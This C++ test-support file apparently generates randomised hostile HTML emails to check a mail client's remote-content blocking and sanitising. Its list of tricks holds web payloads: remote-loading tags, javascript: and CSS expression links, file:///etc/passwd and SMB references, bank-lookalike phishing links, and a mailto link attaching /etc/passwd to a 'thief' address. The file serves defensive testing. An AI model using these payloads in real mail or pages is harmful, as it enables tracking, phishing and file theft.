#include "support/HostileMail.h"

namespace amends {

namespace {

/// Everything in HTML that names a place: "%" stands for the origin.
constexpr const char* kTricks[] = {
    "<img src='%/img.png' width=1 height=1>",
    "<img src=%/unquoted.png>",
    "<img srcset='%/one.png 1x, %/two.png 2x' src='cid:x'>",
    "<img src='cid:x' lowsrc='%/low.png' dynsrc='%/dyn.avi' longdesc='%/desc'>",
    "<IMG SRC=\"&#104;ttp:%/entity.png\">",
    "<img src='//127.0.0.1/share.png'><img src='\\\\127.0.0.1\\share.png'><img src='file:///etc/hostname'>",
    "<picture><source srcset='%/picture.png'><img src='%/fallback.png'></picture>",
    "<script src='%/script.js'></script><script>new Image().src='%/js.png'</script>",
    "<link rel=stylesheet href='%/sheet.css'><link rel=prefetch href='%/prefetch'><link rel=dns-prefetch href='%'>",
    "<style>@import url(%/import.css); @font-face{font-family:f;src:url(%/font.woff)} body{background:url(%/css.png)}</style>",
    "<p style='background:url(%/style.png);font-family:f'>styled</p>",
    "<p style='background-image:u\\72l(%/escaped.png)'>escaped</p>",
    "<p style='list-style-image:url(\"%/list.png\");cursor:url(%/cursor.cur)'>more style</p>",
    "<p style=\"width:expression(document.location='%/expression')\">expression</p>",
    "<p style='-moz-binding:url(%/binding.xml#x);behavior:url(%/behaviour.htc)'>binding</p>",
    "<body background='%/body.png'><table background='%/table.png'><tr background='%/row.png'><td background='%/cell.png'>cell</table>",
    "<meta http-equiv=refresh content='0;url=%/refresh'>",
    "<base href='%/base/'><img src='relative.png'><a href='relative'>relative</a>",
    "<iframe src='%/frame'></iframe><iframe srcdoc='<img src=%/srcdoc.png>'></iframe><frameset><frame src='%/frameset'></frameset>",
    "<object data='%/object'><param name=movie value='%/movie'></object><embed src='%/embed'><applet codebase='%/applet'></applet>",
    "<svg><image href='%/svg.png' xlink:href='%/svg2.png'/><use href='%/use.svg#x'/><style>@import '%/svg.css'</style></svg>",
    "<math><mtext><img src='%/math.png'></mtext></math>",
    "<video src='%/video' poster='%/poster.png'><track src='%/track.vtt'></video><audio src='%/audio' autoplay></audio>",
    "<form action='%/form'><input type=image src='%/input.png'><button formaction='%/button'>go</button></form>",
    "<a href='%/click' ping='%/ping'>https://www.bank.example/login</a>",
    "<a href='http://xn--bnk-hoa.example/'>b\xC3\xA4nk.example</a><a href='https://bank.example@127.0.0.1/'>bank.example</a>",
    "<a href='mailto:a@b.example?attach=/etc/passwd&bcc=thief@example.net'>write to us</a>",
    "<a href='javascript:location=\"%/js\"'>js</a><a href='JaVa\tScRiPt:x'>js2</a><a href='data:text/html,<img src=%/data.png>'>data</a>",
    "<a href='vbscript:x'>v</a><a href='file:///etc/passwd'>f</a><a href='smb://127.0.0.1/x'>s</a><a href=' \x01 javascript:x'>c</a>",
    "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"%/inner.png\"/></svg>'>",
    "<img src='data:text/html,x'><img src='data:image/png;base64,AAAA'>",
    "<bgsound src='%/sound'><layer src='%/layer'><ilayer src='%/ilayer'><xml src='%/xml'></xml>",
    "<?xml-stylesheet href='%/pi.css'?><!DOCTYPE x SYSTEM '%/dtd'><!--[if mso]><img src='%/mso.png'><![endif]-->",
    "<v:fill src='%/vml.png'/><v:imagedata src='%/vml2.png'/><html manifest='%/manifest' xmlns:v='urn:x'>",
    "<div onmouseover=\"new Image().src='%/hover'\" onclick='x' onerror=y>hover</div>",
    "<noscript><img src='%/noscript.png'></noscript><template><img src='%/template.png'></template>",
    "<textarea></textarea><title></title><img src='%/after-raw.png'>",
    "<img src='%/unclosed.png",
};

QByteArray filled(const char* trick, const QByteArray& origin)
{
    return QByteArray(trick).replace("%", origin);
}

} // namespace

QByteArray hostileHtml(Dice& dice, const QByteArray& origin)
{
    QByteArray html = dice.of({"<html><body>", "", "<!DOCTYPE html>", "<html><head>"});
    for (int i = 0, n = 1 + dice.below(30); i < n; ++i) {
        html += filled(kTricks[dice.below(int(std::size(kTricks)))], origin);
        html += dice.of({"", "words", "<b>", "</b>", "<div style='display:none'>", "</div>", "<", ">", "<!--", "-->", "<![CDATA[", "&#x202E;", "&#0;", "&lt;img&gt;",
                         "<blockquote>", "<pre>", "</x>", "<a href=\"x", "'\">"});
    }
    return html;
}

QByteArray everyHtmlTrick(const QByteArray& origin)
{
    QByteArray html = "<html><body><p>The words before.</p>";
    for (const char* trick : kTricks)
        html += "<div>" + filled(trick, origin) + "</div>\n";
    return html;
}

QByteArray hostileHtmlMail(Dice& dice)
{
    const QByteArray html = hostileHtml(dice, "http://127.0.0.1:9");
    const QByteArray head = plainHead(dice) + "MIME-Version: 1.0\r\n";
    if (dice.oneIn(2))
        return head + "Content-Type: text/html; charset=utf-8\r\n\r\n" + html + "\r\n";
    return head + "Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\n\r\nthe plain words\r\n--b\r\nContent-Type: text/html\r\n"
                  "Content-Transfer-Encoding: base64\r\n\r\n" + html.toBase64() + "\r\n--b--\r\n";
}

} // namespace amends
